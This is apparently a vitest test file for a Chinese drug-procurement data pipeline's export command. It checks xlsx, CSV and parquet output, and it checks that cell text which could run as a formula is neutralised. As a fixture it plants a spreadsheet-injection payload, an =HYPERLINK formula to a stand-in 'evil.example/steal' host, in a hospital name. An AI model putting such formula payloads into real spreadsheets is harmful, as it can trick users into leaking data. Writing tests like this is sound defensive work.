import {execFileSync} from "node:child_process";
import {existsSync, mkdtempSync, readFileSync, readdirSync, rmSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import ExcelJS from "exceljs";
import {DuckDBInstance} from "@duckdb/node-api";
import {afterAll, beforeAll, describe, expect, it, vi} from "vitest";
import {exportCommand} from "../../pipelines/commands/export.js";
import {neutraliseText, toCell} from "../../pipelines/export/cells.js";
import {refreshModels} from "../../pipelines/refresh/refresh-models.js";
import {insertRows, tempWarehouse} from "../models/warehouse-fixture.js";

const evilName = '=HYPERLINK("http://evil.example/steal","点我")';

function soffice(): string | null {
  for (const candidate of ["/usr/bin/soffice", "/usr/lib/libreoffice/program/soffice"])
    if (existsSync(candidate)) return candidate;
  return null;
}

describe("jicai export", () => {
  let fixture: Awaited<ReturnType<typeof tempWarehouse>>;
  let out: string;

  beforeAll(async () => {
    fixture = await tempWarehouse();
    const conn = fixture.warehouse.conn;
    await insertRows(conn, "raw_hospitals", [{hospital_code: "H1", name: evilName, level: "三级", mi_pay_ratio: 0.7}]);
    await insertRows(conn, "raw_batches", [
      {batch_id: "B1", name: "第一批", level: "国家", category: "药品", exec_start: "2024-01-01"}
    ]);
    // pre-VBP price below the winning price: the savings are negative numbers and must stay numbers
    await insertRows(conn, "raw_batch_results", [
      {
        batch: "B1",
        generic_name: "氨氯地平",
        dosage_form: "片剂",
        spec: "5mg",
        pack: "7片/盒",
        enterprise: "+江川制药",
        price_per_pack: 0.7,
        pre_vbp_price_unit: 0.05
      }
    ]);
    await insertRows(conn, "raw_agreed_volumes", [
      {batch: "B1", hospital_code: "H1", generic_name: "氨氯地平", spec: "5mg", agreed_qty: 7000, unit: "片"}
    ]);
    await refreshModels(conn, {asOf: "2024-06-30"});
    fixture.warehouse.close();
    out = mkdtempSync(join(tmpdir(), "jicai-export-"));
  });

  afterAll(() => {
    fixture.cleanup();
    rmSync(out, {recursive: true, force: true});
  });

  const run = async (args: string[]) => {
    const log = vi.spyOn(console, "error").mockImplementation(() => {});
    try {
      return await exportCommand.run([...args, "--db", fixture.path]);
    } finally {
      log.mockRestore();
    }
  };

  it("neutralises text that would run as a formula, leaving numbers alone", () => {
    expect(["=1+1", "+86", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "阿莫西林"].map(neutraliseText)).toEqual([
      "'=1+1",
      "'+86",
      "'-x",
      "'@SUM(A1)",
      "'\tcmd",
      "'\rcmd",
      "阿莫西林"
    ]);
    expect([toCell(-5), toCell(12n), toCell(true), toCell(null)]).toEqual([-5, 12, "是", null]);
  });

  it("writes xlsx with Chinese headers, text formulas neutralised and negative numbers as numbers", async () => {
    const file = join(out, "savings.xlsx");
    expect(await run(["savings", "--out", file])).toBe(0);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.getWorksheet("节约金额")!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(headers.slice(0, 3)).toEqual(["批次编号", "批次名称", "协议年度（第N年）"]);
    const column = (label: string) => headers.indexOf(label) + 1;
    const row = sheet.getRow(2);
    expect(row.getCell(column("医疗机构名称")).value).toBe(`'${evilName}`);
    expect(row.getCell(column("医疗机构名称")).formula).toBeUndefined();
    expect(row.getCell(column("生产企业")).value).toBe("'+江川制药");
    // (0.05 − 0.10) × 7,000 = −350
    expect(row.getCell(column("约定量节约金额（元）")).value).toBe(-350);
    expect(row.getCell(column("节约基准类型")).value).toBe("集采前价格");
  });

  it("writes CSV in UTF-8 with a BOM and the same neutralisation", async () => {
    const file = join(out, "savings.csv");
    expect(await run(["savings", "--out", file])).toBe(0);
    const text = readFileSync(file, "utf8");
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1, 20)).toMatch(/^批次编号,批次名称/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""点我"")"`);
    expect(text).toMatch(/,-350,/);
  });

  it("writes parquet with DuckDB, keeping English column names", async () => {
    const file = join(out, "savings.parquet");
    expect(await run(["savings", "--out", file])).toBe(0);
    const instance = await DuckDBInstance.create(":memory:");
    const conn = await instance.connect();
    const reader = await conn.runAndReadAll(`select hospital_name, savings_agreed from read_parquet('${file}')`);
    expect(reader.getRowObjectsJson()).toEqual([{hospital_name: evilName, savings_agreed: "-350.0000"}]);
    conn.closeSync();
    instance.closeSync();
  });

  it("refuses an unknown mart or format with a reason", async () => {
    await expect(run(["orders", "--out", join(out, "x.xlsx")])).rejects.toThrow(/没有名为 “orders” 的数据集市/);
    await expect(run(["savings", "--out", join(out, "x.json")])).rejects.toThrow(/不支持的导出格式/);
  });

  // .ci/run installs LibreOffice: in CI a missing soffice fails this test instead of skipping it.
  it.runIf(soffice() !== null || process.env.CI === "true")(
    "opens in LibreOffice with Chinese headers and the formula kept as text",
    () => {
      const converted = join(out, "lo");
      execFileSync(
        soffice()!,
        [
          `-env:UserInstallation=file://${join(out, "lo-profile")}`,
          "--headless",
          "--convert-to",
          "csv:Text - txt - csv (StarCalc):44,34,76,1",
          "--outdir",
          converted,
          join(out, "savings.xlsx")
        ],
        {stdio: "ignore", timeout: 100_000}
      );
      expect(readdirSync(converted)).toContain("savings.csv");
      const text = readFileSync(join(converted, "savings.csv"), "utf8");
      expect(text).toMatch(/^"?批次编号"?,"?批次名称"?/);
      expect(text).toContain("'=HYPERLINK(");
      expect(text).toContain("-350");
    }
  );
});
